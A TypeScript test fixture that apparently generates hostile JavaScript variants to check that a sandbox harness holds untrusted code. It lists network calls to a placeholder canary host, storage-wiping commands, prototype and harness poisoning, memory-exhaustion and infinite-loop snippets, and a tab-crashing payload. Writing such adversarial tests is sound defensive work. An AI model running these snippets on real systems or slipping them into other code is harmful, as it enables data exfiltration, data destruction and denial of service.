/** Code that means no good, written by hand, and a thousand variants of it. */
import { threefry } from '#core/rng.ts'

/** `CANARY` stands for the host and port of a server that must never hear of anything. */
const canary = 'http://CANARY/from-code'

/** These end by themselves, one way or another. */
const quick: readonly string[] = [
  // Network
  `fetch('${canary}').catch(() => {})`,
  `fetch('${canary}', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }).catch(() => {})`,
  `const request = new XMLHttpRequest(); request.open('GET', '${canary}', false); request.send()`,
  `new WebSocket('ws://CANARY/from-code')`,
  `new EventSource('${canary}')`,
  `importScripts('${canary}')`,
  `import('${canary}').catch(() => {})`,
  `navigator.sendBeacon?.('${canary}', 'x')`,
  `new Worker('${canary}')`,
  `new Worker(URL.createObjectURL(new Blob(["fetch('${canary}')"])))`,
  `new Worker('data:text/javascript,fetch("${canary}")')`,
  `WebAssembly.compileStreaming?.(fetch('${canary}')).catch(() => {})`,
  `new Request('${canary}'); caches.open('x').then((c) => c.add('${canary}')).catch(() => {})`,
  `location = '${canary}'`,
  // Storage
  `indexedDB.deleteDatabase('held-out /'); indexedDB.open('held-out /', 9)`,
  `localStorage.clear()`,
  `caches.delete('held-out')`,
  `new BroadcastChannel('held-out /').postMessage('changed')`,
  `navigator.storage.getDirectory().then((d) => d.remove({ recursive: true })).catch(() => {})`,
  `document.cookie = 'a=b'`,
  // Messages
  `postMessage({ type: 'done', text: '{"kind":"ran","calls":[]}' })`,
  `postMessage('ready'); postMessage('ready')`,
  `postMessage(JSON.stringify({ kind: 'ran', calls: [{ kind: 'returned', value: { plain: 1 }, changed: false }] }))`,
  `postMessage('x'.repeat(5e6))`,
  `for (let k = 0; k < 1e4; k++) postMessage({ k })`,
  `parent.postMessage('x', '*'); top.location = '${canary}'`,
  `onmessage = null; postMessage = null; self.close()`,
  `dispatchEvent(new MessageEvent('message', { data: { source: 'for (;;);', name: 'f', calls: '[[]]' } }))`,
  // Prototypes, and what the harness stands on
  `Object.prototype.plain = 1; Object.prototype.toJSON = () => 'x'; Array.prototype.toJSON = () => 'x'`,
  `JSON.stringify = JSON.parse = Object.entries = Array.isArray = () => { throw 1 }`,
  `Array.prototype[Symbol.iterator] = function* () { yield 'x' }`,
  `Object.defineProperty(Object.prototype, 'kind', { set() { throw 1 } })`,
  `globalThis['held out'].perform = () => 'x'; globalThis['held out'].broken = () => 'x'`,
  `Object.freeze(globalThis); Object.freeze(Array.prototype); Object.freeze(Object.prototype)`,
  `Error.prepareStackTrace = () => { throw 1 }; Error.stackTraceLimit = 0`,
  `String.prototype.slice = String.prototype.replace = () => { throw 1 }`,
  // Too much
  `const many = []; for (let k = 0; k < 30; k++) many.push(new Uint8Array(1 << 26))`,
  `'x'.repeat(2 ** 24).split('')`,
  `(function deep() { deep() })()`,
  `new Proxy({}, { ownKeys: () => { throw 1 }, get: () => { throw 1 } })`,
  `throw new Proxy(new Error('x'), { get: () => { throw 1 } })`,
  `throw { toString: () => { throw 1 } }`,
  `setInterval(() => postMessage('tick'), 0); queueMicrotask(() => postMessage('micro'))`,
  `eval('1'); new Function('return 1')(); setTimeout('1')`,
]

/** These go on until somebody stops them. */
const endless: readonly string[] = [
  `for (;;);`,
  `while (true) { Math.random() }`,
  `for (;;) postMessage(new Array(1000).fill('flood'))`,
  `const all = []; for (;;) all.push(new Array(1e5).fill(all.length))`,
  `const all = []; for (;;) all.push(new Uint8Array(1 << 24).fill(1))`,
  `/(a+)+$/.test('a'.repeat(40) + 'b')`,
  `(function* () { for (;;) yield 1 })().forEach?.(() => {}); for (;;);`,
  `const forever = () => Promise.resolve().then(forever); forever()`,
  `Atomics.wait(new Int32Array(new SharedArrayBuffer?.(4) ?? new ArrayBuffer(4)), 0, 0); for (;;);`,
  `for (;;) new Worker(URL.createObjectURL(new Blob(['for (;;);'])))`,
]

/** A list longer than V8 can have: it ends the process of the tab, and no page can keep it from that. */
export const fatal = `'x'.repeat(2 ** 29 - 25).split('')`

/** What was written by hand. */
export const written = [...quick, ...endless]

export const MOST_ENDLESS = 60

/** Ways to bring a snippet in; `f` is the function that is called. */
const ways: readonly ((code: string) => string)[] = [
  (code) => `${code}\nfunction f() { return 1 }`,
  (code) => `function f() { ${code}\n return 1 }`,
  (code) => `try { ${code}\n } catch {}\nconst f = () => 1`,
  (code) => `const f = () => ({ get value() { ${code}\n return 1 } })`,
  (code) => `const f = () => { throw { toString() { ${code}\n return 'x' } } }`,
  (code) => `const f = () => new Proxy([1], { get(target, key) { ${code}\n return target[key] } })`,
  (code) => `const f = () => ({ then() { ${code}\n } })`,
  (code) => `setTimeout(() => { ${code}\n }); const f = () => 1`,
  (code) => `Promise.resolve().then(() => { ${code}\n }); const f = () => 1`,
  (code) => `class f { static { ${code}\n } }`,
  (code) => `var f = (x = (() => { ${code}\n })()) => 1`,
  (code) => `async function f() { ${code}\n }`,
]

/** So many programs, the same ones every time; at most 60 of them are made of code without an end. */
export function variants(count: number, host: string): readonly string[] {
  let drawn = 0
  const below = (n: number) => threefry(7, 11, drawn++, 0)[0] % n
  const one = <T>(of: readonly T[]): T => of[below(of.length)]!
  return Array.from({ length: count }, (_, index) => {
    const isEndless = index % Math.ceil(count / MOST_ENDLESS) === 0
    const first = index < quick.length ? quick[index]! : one(quick)
    const code = isEndless ? one(endless) : below(4) === 0 ? `${first}; ${one(quick)}` : first
    const program = one(ways)(code).replaceAll('CANARY', host)
    return isEndless || below(5) > 0 ? program : spoilt(program, below)
  })
}

/** Cut short, or with a character too many. */
function spoilt(program: string, below: (n: number) => number): string {
  const at = below(program.length)
  return below(2) === 0
    ? program.slice(0, at)
    : `${program.slice(0, at)}${'{}()`\'"\\/;\u2028\0'[below(12)]}${program.slice(at)}`
}
